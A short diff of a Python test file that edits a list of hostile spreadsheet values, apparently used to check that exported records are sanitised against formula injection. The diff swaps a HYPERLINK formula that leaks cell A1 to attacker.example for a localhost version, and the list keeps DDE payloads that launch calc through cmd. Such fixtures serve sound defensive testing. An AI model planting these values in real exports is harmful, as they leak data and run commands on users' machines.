@@ -397,7 +397,7 @@ def test_work_records_list_their_editions_and_take_the_title_of_the_works_view(r
 # -- a hostile record -----------------------------------------------------------------------------
 
 HOSTILE = [
-    '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")',
+    '=HYPERLINK("http://127.0.0.1/?leak="&A1,"Click")',
     "+SUM(1+1)*cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
